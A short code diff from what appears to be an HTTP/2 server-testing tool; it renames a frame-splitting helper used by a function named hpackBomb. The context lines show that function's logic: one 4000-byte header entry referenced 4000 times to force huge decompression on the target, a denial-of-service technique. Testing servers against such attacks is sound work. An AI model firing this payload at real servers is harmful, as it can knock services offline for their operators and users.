@@ -458,7 +458,7 @@ def hpackBomb(target: Target, references: int = 4000) -> Outcome:
     streamID = connection.streamID()
     fields = connection.requestFields(extra=[(b"x-bomb", b"b" * 4000)])
     block = connection.encoder.encode(fields) + b"\xbe" * references  # index 62: the x-bomb entry
-    frames = _blockFrames(streamID, block)
+    frames = blockFrames(streamID, block)
     connection.send(frames)
     connection.waitFor(lambda: connection.finished(streamID), target.timeout)
     ended(outcome, connection, started)
@@ -869,7 +869,7 @@ def main(argv: Sequence[str] | None = None) -> int:
 # -- internals ---------------------------------------------------------------------------------
 
 
-def _blockFrames(streamID: int, block: bytes) -> bytes:
+def blockFrames(streamID: int, block: bytes) -> bytes:
     """A header block split into HEADERS and CONTINUATION frames of the default size."""
     chunks = [block[i : i + DEFAULT_MAX_FRAME] for i in range(0, len(block), DEFAULT_MAX_FRAME)] or [b""]
     frames = []
